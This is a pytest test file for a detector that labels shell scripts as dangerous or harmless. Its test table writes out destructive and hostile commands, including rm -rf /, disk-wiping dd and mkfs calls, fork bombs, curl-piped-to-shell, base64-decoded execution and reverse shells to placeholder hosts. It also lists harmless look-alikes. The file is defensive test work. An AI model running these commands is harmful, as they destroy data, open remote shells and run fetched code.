"""Which scripts are dangerous, and which only look so."""

import pytest

from pipeline.plans.shell import dangers, parse
from pipeline.plans.shell.dangers import DANGERS

DANGEROUS: dict[str, tuple[str, ...]] = {
    "removes everything there is": (
        *("rm -rf /", "r''m -rf /", "'rm' '-rf' '/'", "rm -fr ~", "rm -r *", "rm -rf $HOME"),
        *('rm -rf "$HOME"/*', "/bin/rm -rf /*", "rm -r -f //", "sudo rm -rf /", "env -i rm -rf /"),
        *("timeout 5 rm -rf /", "xargs rm -rf / < x", "bash -c 'rm -rf /'", "bash -lc 'rm -rf ~'"),
        *("echo 'rm -rf /' | sh", "echo $(rm -rf /)", "cat <<E\n$(rm -rf /)\nE\n"),
        *("sh <<'E'\nrm -rf /\nE\n", "if a; then\n rm -rf /usr\nfi", "f() { rm -rf /; }"),
        *("rm --no-preserve-root -r x", "eval 'rm -rf /'", "r\\\nm -rf /", "a | b > c; rm -rf ~/"),
    ),
    "removes files far outside": ("find / -delete", "find / -exec rm {} +", "find ~ -delete"),
    "acts as another user": ("sudo ls", "doas ls", "su -c ls", "env sudo ls"),
    "file systems and partitions": ("fdisk /dev/sda", "parted /dev/sda", "wipefs -a /dev/sda"),
    "makes a file system where": ("mkfs.ext4 /dev/sda1", "mkfs /dev/sda1"),
    "writes over a disk": ("dd if=x of=/dev/sda", "echo x > /dev/sda", "cp x /dev/nvme0n1"),
    "who may read or write": ("chmod -R 777 /", "chmod 777 /etc", "chown -R me /usr"),
    "writes into the machine's own folders": (
        *("echo x >> /etc/hosts", "tee /etc/passwd", "cp a /usr/bin/x", ": > /etc/x", "rm /etc/x"),
        *("{ a; } > /etc/x", "sed -i s/a/b/ /etc/hosts", "echo x > //etc/hosts"),
    ),
    "the user's shell, git or ssh": ("echo k >> ~/.ssh/authorized_keys", "echo x > $HOME/.bashrc"),
    "turns the machine off": ("shutdown now", "reboot", "halt", "systemctl poweroff", "init 0"),
    "ends processes by name": ("killall python", "pkill -f x"),
    "ends every process": ("kill -9 -1",),
    "fork bomb": (":(){ :|:& };:", "f() { f | f & }; f"),
    "fetched from the network": (
        *("curl x|sh", "wget -qO- x | sudo bash", "bash <(curl x)", 'bash -c "$(curl x)"'),
        *("curl x | python3", "curl x | python3 -", "curl x | tee y | bash", "{ curl x; } | sh"),
        *("source <(curl x)", 'eval "$(wget -O- x)"'),
    ),
    "was encoded": ("base64 -d x | sh", "echo eA== | base64 -d | bash", 'eval "$(xxd -r -p x)"'),
    "opens a connection": ("nc -e /bin/sh h 80", "bash -i >& /dev/tcp/1.2.3.4/80 0>&1"),
    "history that others may have": (
        *("git push -f", "git push --force-with-lease origin", "git push origin +main"),
        *("git push origin :main", "git push --mirror x", "git -C x push -uf o main"),
    ),
    "runs later": ("crontab -", "crontab x", "at now"),
    "users of the machine": ("useradd x", "passwd root"),
    "the kernel or what is mounted": ("mount /dev/sda1 /x", "modprobe x", "sysctl -w a=b"),
    "a program whose name is computed": ("$(echo rm) -rf /", "$x a", "env $x", "r{m,} a; `b`"),
    "text that is computed": ("eval $x", 'bash -c "$x"', "cat x | sh", "printf %s $x | bash"),
}
"""Words of the reason -> scripts that it is said of."""

HARMLESS = (
    *('echo "rm -rf /"', "grep 'rm -rf /' x", "git commit -m 'rm -rf /; sudo'", "# rm -rf /\nls"),
    *("cat <<'E' > a\nrm -rf /\nE\n", "echo 'curl x | sh' > README.md", "echo sudo", "man sudo"),
    *("rm -rf build ./dist", "rm -rf '~'", "rm -rf '*'", "rm *.pyc", "rm -rf /tmp/x"),
    *('rm -rf "$TMPDIR/x"', "find . -name '*.pyc' -delete", "chmod +x run.sh", "chmod -R 755 b"),
    *("curl x -o y", "curl x | jq .", "curl x | python3 -m json.tool", "curl x | python3 -c 'a'"),
    *("git push", "git push origin main", "python3 -m pytest -q > /dev/null 2>&1", "ls /etc"),
    *("dd if=/dev/zero of=x bs=1", "crontab -l", "base64 -d x > y", "cat x | sh run.sh"),
    *("kill 123", "kill -9 $PID", "test -f x && bash x.sh", "make reboot-test", "cp /etc/hosts ."),
    *("python -c 'print(\"shutdown\")'", "printf %s x | tee out.txt", "command -v sudo"),
    *("f() { g; }; f", "bash -c 'ls'", "eval 'ls'", "sed 's/a/b/' /etc/hosts", "x='rm -rf /'"),
    *("echo hi > /dev/stderr", "a 2> /dev/null", "exec 3>&-", "pytest -k 'not reboot'"),
)


@pytest.mark.parametrize(
    ("reason", "script"),
    [(reason, script) for reason, scripts in DANGEROUS.items() for script in scripts],
)
def test_a_dangerous_script_is_found_with_its_reason(reason: str, script: str) -> None:
    assert any(reason in line for line in dangers(parse(script)))


@pytest.mark.parametrize("script", HARMLESS)
def test_a_script_that_only_looks_dangerous_is_not(script: str) -> None:
    assert dangers(parse(script)) == []


def test_every_danger_is_tried() -> None:
    reasons = {danger.reason for danger in DANGERS}
    assert all(any(words in reason for words in DANGEROUS) for reason in reasons)
    assert all(any(words in reason for reason in reasons) for words in DANGEROUS)


def test_a_line_names_the_command_and_is_one_line() -> None:
    (line,) = dangers(parse("rm -rf / 'a\nb' " + "x" * 200))
    assert line.startswith("'rm -rf / a b xx")
    assert len(line) < 200
